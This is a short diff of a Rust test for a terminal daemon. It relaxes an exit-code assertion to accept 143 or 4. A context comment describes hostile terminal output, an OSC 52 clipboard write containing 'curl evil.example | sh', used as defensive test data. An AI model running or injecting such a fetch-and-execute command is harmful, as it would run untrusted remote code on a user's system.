@@ -261,7 +261,8 @@ fn the_terminal_is_restored_when_the_client_is_killed_or_the_daemon_goes_away() 
     assert_eq!(d.wait_exit(SOON), 0);
     let status = s.wait();
     assert_eq!(s.stty(&["-g"]), s.initial_stty);
-    assert!(status.code() == Some(0) || status.code() == Some(4), "{status:?}: {:?}", s.seen);
+    // Either the program's end is reported (cat terminated by SIGTERM: 143) or the daemon's (4).
+    assert!(matches!(status.code(), Some(143 | 4)), "{status:?}: {:?}", s.seen);
 }
 
 /// What a hostile program prints: an OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0
